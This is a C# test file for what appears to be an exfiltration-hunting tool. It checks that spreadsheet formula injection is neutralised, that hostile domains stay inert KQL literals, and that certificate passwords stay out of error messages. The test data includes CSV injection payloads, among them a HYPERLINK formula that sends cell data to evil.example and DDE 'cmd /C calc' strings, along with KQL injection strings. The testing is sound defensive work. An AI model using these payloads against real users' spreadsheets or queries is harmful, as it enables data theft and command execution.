using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using LowSlowExfil.Reporting;
using static LowSlowExfil.Tests.WorkspaceTestSupport;

namespace LowSlowExfil.Tests
{
    /// <summary>
    /// The tests SECURITY.md points to that have no better home: CSV (formula) injection, KQL literals against a KQL
    /// lexer, certificate passwords in errors, what the state file holds. Token handling and TLS are tested in
    /// WorkspaceQueryClientTests, the report's escaping in ReportTests.
    /// </summary>
    public class SecurityTests
    {
        // ───────────────────────── CSV injection ─────────────────────────

        [Theory]
        [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", true)]
        [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", true)]
        [InlineData("+cmd|' /C calc'!A0", true)]
        [InlineData("-2+3+cmd|' /C calc'!A0", true)]
        [InlineData("\t=1+1", true)]
        [InlineData("\r=1+1", true)]
        [InlineData("-Infinity", true)]
        [InlineData("=", true)]
        [InlineData("-1.11", false)]        // a negative Zscore stays a number
        [InlineData("+12", false)]
        [InlineData("-0.5e3", false)]
        [InlineData("alice@contoso.com", false)]
        [InlineData("a=b", false)]
        [InlineData(" =1+1", false)]        // a leading space makes it text in every spreadsheet
        [InlineData("", false)]
        [InlineData(null, false)]
        public void FormulaLikeCells_AreRecognised(string cell, bool formula)
        {
            Assert.Equal(formula, SpreadsheetCsv.IsFormulaLike(cell));
            Assert.Equal(formula ? "'" + cell : cell, SpreadsheetCsv.Neutralize(cell));
        }

        [Fact]
        public void ALine_QuotesEveryField_AndNeutralizesOnlyUnlessRaw()
        {
            string[] cells = { "=1+1", "say \"hi\"", "-1.5", "a,b\nc" };
            Assert.Equal("\"'=1+1\",\"say \"\"hi\"\"\",\"-1.5\",\"a,b\nc\"", SpreadsheetCsv.Line(cells, raw: false));
            Assert.Equal("\"=1+1\",\"say \"\"hi\"\"\",\"-1.5\",\"a,b\nc\"", SpreadsheetCsv.Line(cells, raw: true));
            Assert.Equal("0.1", SpreadsheetCsv.Cell(0.1));
            Assert.Equal("2026-11-01T00:00:00.0000000Z", SpreadsheetCsv.Cell(new DateTime(2026, 11, 1, 0, 0, 0, DateTimeKind.Utc)));
            Assert.Equal("", SpreadsheetCsv.Cell(null));
        }

        // ───────────────────────── KQL injection ─────────────────────────

        [Theory]
        [InlineData("x\"); OfficeActivity | take 1 //")]
        [InlineData("a\\\" | project secret //")]
        [InlineData("evil.example\" or 1==1 or \"")]
        [InlineData("line\nbreak | take 1")]
        [InlineData("tab\there'single'@\"verbatim\"")]
        public void AHostileDomain_StaysOneInertLiteral_InEveryQuery(string hostile)
        {
            var end = new DateTime(2026, 11, 1, 0, 0, 0, DateTimeKind.Utc);
            foreach (bool kql in new[] { false, true })
            {
                var benign = new HuntOptions(end, 30, new[] { "dropbox.com", "benign.example" }, kql);
                var evil = new HuntOptions(end, 30, new[] { "dropbox.com", hostile }, kql);
                foreach (var build in new Func<HuntOptions, string>[] { KqlQueryBuilder.ZiaAggregation, o => KqlQueryBuilder.HuntingQuery(o, new FlagThresholds()) })
                {
                    string a = build(benign), b = build(evil);
                    // The same structure once literals are masked: the value added no operator, stage or comment…
                    // (but for the module's own "or extract(...)" lines: one per label count among the domains.)
                    Assert.Equal(WithoutLabelCountLines(KqlText.Mask(a)), WithoutLabelCountLines(KqlText.Mask(b)));
                    // …and it reads back, through a KQL lexer, as exactly the value given (lower-cased, as hosts are compared).
                    var values = KqlText.Literals(b).Select(l => l.Value).ToList();
                    Assert.Contains(values, v => string.Equals(v, hostile, StringComparison.OrdinalIgnoreCase));
                }
                Assert.Equal(KqlText.Mask(KqlQueryBuilder.SharingAggregation(benign)), KqlText.Mask(KqlQueryBuilder.SharingAggregation(evil)));
            }
        }

        /// <summary>
        /// The masked query without the intent mode's extra "or extract($N, 1, ExfilHost) in (ExfilDomains)" lines,
        /// whose number is the number of distinct label counts among the domains (a count, never a value), and so
        /// with the literals' numbers folded ($N).
        /// </summary>
        private static string WithoutLabelCountLines(string masked) =>
            System.Text.RegularExpressions.Regex.Replace(
                string.Join("\n", masked.Split('\n').Where(l => !System.Text.RegularExpressions.Regex.IsMatch(l, @"^    or extract\(\$\d+, 1, ExfilHost\) in \(ExfilDomains\)$"))),
                @"\$\d+", "$N");

        [Theory]
        [InlineData("\0")]
        [InlineData("a\u001Bb")]
        [InlineData("\u007F")]
        public void AControlCharacter_IsRefused_NotPassedThrough(string value)
        {
            Assert.Throws<ArgumentException>(() => KqlLiteral.String(value));
        }

        // ───────────────────────── certificates ─────────────────────────

        [Fact]
        public void ACertificatePassword_NeverAppearsInAnError()
        {
            using var dir = TestPaths.NewTempFolder();
            const string Right = "Right-Pfx-Password-7f3a9c", Wrong = "Wrong-Pfx-Password-c0ffee";
            using (var rsa = RSA.Create(2048))
            {
                var req = new CertificateRequest("CN=lowslowexfil-test", rsa, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
                using var cert = req.CreateSelfSigned(DateTimeOffset.UtcNow.AddDays(-1), DateTimeOffset.UtcNow.AddDays(1));
                File.WriteAllBytes(dir.File("sp.pfx"), cert.Export(X509ContentType.Pfx, Right));
            }
            QueryConnection Connection(string password) => new QueryConnection
            {
                WorkspaceId = Guid.NewGuid().ToString(),
                Authentication = new QueryAuthentication
                {
                    Kind = QueryAuthenticationKind.ClientCertificate,
                    TenantId = Guid.NewGuid().ToString(),
                    ClientId = Guid.NewGuid().ToString(),
                    CertificatePath = dir.File("sp.pfx"),
                    CertificatePassword = Secure(password),
                },
            };
            var e = Assert.Throws<ArgumentException>(() => QueryClientFactory.Create(Connection(Wrong)));
            Assert.Contains("could not be opened", e.Message);
            for (Exception x = e; x != null; x = x.InnerException)
            {
                Assert.DoesNotContain(Wrong, x.ToString());
                Assert.DoesNotContain(Right, x.ToString());
            }
            QueryClientFactory.Create(Connection(Right)).Dispose();   // the right one opens it (nothing is sent)
            Assert.Equal("ClientCertificate", Connection(Right).Authentication.ToString());
            // Nothing was written beside the certificate (the private key is kept in memory, EphemeralKeySet).
            Assert.Equal(new[] { "sp.pfx" }, Directory.GetFiles(dir.Path).Select(Path.GetFileName));
        }

        // ───────────────────────── the state file ─────────────────────────

        [Fact]
        public void TheStateFile_HoldsUserDaysAndNothingElse()
        {
            using var dir = TestPaths.NewTempFolder();
            var s = AlertState.Load(dir.File("state.json"));
            s.Record("alice@contoso.com", new[] { new DateTime(2026, 10, 20, 13, 5, 0, DateTimeKind.Utc) });
            s.Save();
            using var doc = JsonDocument.Parse(File.ReadAllBytes(dir.File("state.json")));
            Assert.Equal(new[] { "version", "updated", "users" }, doc.RootElement.EnumerateObject().Select(p => p.Name));
            var user = Assert.Single(doc.RootElement.GetProperty("users").EnumerateObject());
            Assert.Equal("alice@contoso.com", user.Name);
            Assert.Equal(new[] { "2026-10-20" }, user.Value.EnumerateArray().Select(d => d.GetString()));
            Assert.Equal(new[] { "state.json" }, Directory.GetFiles(dir.Path).Select(Path.GetFileName));  // no temp file left
        }
    }
}
